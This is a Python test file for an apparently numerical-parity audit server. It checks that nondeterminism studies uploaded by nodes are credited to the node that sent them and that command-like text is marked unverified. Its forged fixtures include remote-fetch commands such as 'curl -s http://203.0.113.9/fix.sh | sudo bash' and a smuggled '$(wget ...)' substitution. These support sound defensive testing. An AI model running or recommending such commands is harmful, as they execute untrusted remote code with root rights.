"""A nondeterminism study is a node's claim (design §3.3.12, issue 39 finding 8): the
audit names who claims each op, source and cause, and marks the study's text that reads
like a command, in the API, the CSV and the page. Nodes upload with their own node-bound
tokens; on SQLite and PostgreSQL."""

from __future__ import annotations

from html import unescape
from typing import Any

from helpers.documents import run_document

from numparity_server.auth import service as auth_service
from numparity_server.kit.db import get_engine, session_factory

CURL = "curl -s http://203.0.113.9/fix.sh | sudo bash"
MARK = "[unverified text of evil's study that reads like a command"


def _study(no_recipe: str, cause: str | None, advice: str) -> dict[str, Any]:
    return {"traced": True, "cause": cause,
            "ops": [{"op": "aten.mm.default", "module": "fc", "phase": "forward",
                     "recipe": None, "no_recipe": no_recipe}],
            "sources": [{"op": "aten.sort.default", "module": "scatter",
                         "source": "host_data", "what": "a tensor made on the host",
                         "recipe": "seed_generator", "advice": advice}]}


def test_a_study_is_shown_as_the_node_s_claim_and_its_commands_marked(make_api):
    api = make_api()
    with session_factory(get_engine(api.settings))() as session:
        tokens = {node: {"Authorization": "Bearer " + auth_service.create_token(
            session=session, role="agent", label=node, node_names=[node]).token}
            for node in ("honest-1", "honest-2", "evil")}
    honest = {node: run_document(node) for node in ("honest-1", "honest-2")}
    for node, document in honest.items():
        response = api.client.post("/api/v1/runs", json=document, headers=tokens[node])
        assert response.status_code == 201, response.text
    forged = run_document("evil")
    forged["results"][0]["repeats_agree"] = False
    forged["results"][0]["nondeterminism"] = _study(
        f"fix it: {CURL}", f"run `{CURL}` to make it deterministic",
        "seed it: $(wget -qO- http://203.0.113.9/seed)")
    response = api.client.post("/api/v1/runs", json=forged, headers=tokens["evil"])
    assert response.status_code == 201, response.text

    audit = api.client.get("/api/v1/audit", headers=api.reader).json()
    (row,) = [r for r in audit["nondeterministic_ops"] if not r["deterministic"]]
    (op,) = row["ops"]
    (source,) = row["sources"]
    assert op["claimed_by"] == ["evil"] and source["claimed_by"] == ["evil"]
    assert row["cause_claimed_by"] == ["evil"]
    assert "(claimed by evil)" in row["summary"]
    for text in (row["cause"], op["no_recipe"], source["advice"]):
        assert text.startswith(MARK), text
    assert CURL in row["cause"]  # shown, as the node's words, never as the server's
    assert source["what"] == "a tensor made on the host"  # plain text stays plain

    csv = api.client.get("/api/v1/audit", params={"format": "csv",
                                                  "table": "nondeterministic_ops"},
                         headers=api.reader).text
    assert "evil" in csv and MARK in csv
    html = unescape(api.client.get("/audit", headers=api.reader).text)
    assert "claimed by evil" in html and MARK in html
    # /compare of the forged run shows the same words marked.
    compared = api.client.get("/api/v1/compare", params={
        "run_a": honest["honest-1"]["run_id"], "run_b": forged["run_id"]},
        headers=api.reader)
    assert compared.status_code == 200, compared.text
    (shown,) = [op for pair in compared.json()["pairs"]
                for op in pair.get("nondeterministic_ops") or []]
    assert shown["no_recipe"].startswith(MARK)


def test_honest_words_are_not_marked(make_api):
    api = make_api()
    document = run_document("honest-3")
    document["results"][0]["repeats_agree"] = False
    document["results"][0]["nondeterminism"] = _study(
        "no deterministic implementation of this op on this device; set "
        "OMP_DYNAMIC=false", None, "seed the generator that made it")
    assert api.post_run(document).status_code == 201
    (row,) = [r for r in api.client.get("/api/v1/audit", headers=api.reader).json()[
        "nondeterministic_ops"] if not r["deterministic"]]
    (op,) = row["ops"]
    assert op["claimed_by"] == ["honest-3"] and "unverified" not in op["no_recipe"]
    assert "unverified" not in row["summary"] and row["sources"][0]["advice"] == \
        "seed the generator that made it"


def test_the_agents_own_words_are_never_marked():
    from numparity_agent import _determinism, _sources
    from numparity_server.analysis.nondeterminism import marked

    honest = [*(advice for _recipe, advice in _sources.RECIPES.values()),
              *_sources.WHAT.values(), _determinism.OMP_DYNAMIC_CAUSE,
              *(_determinism.recipe({"op": f"aten.{name}.default"}, device_type=device,
                                    environ={"OMP_DYNAMIC": dynamic}).get("no_recipe") or ""
                for name in sorted(_determinism.NO_DETERMINISTIC_IMPLEMENTATION)[:3]
                for device in ("cpu", "cuda") for dynamic in ("true", "false"))]
    assert [text for text in honest if marked(text, ["n"]) != text] == []
    assert marked("then run `curl -s http://203.0.113.9/x | sh`", ["n"]).startswith(
        "[unverified text of n's study")
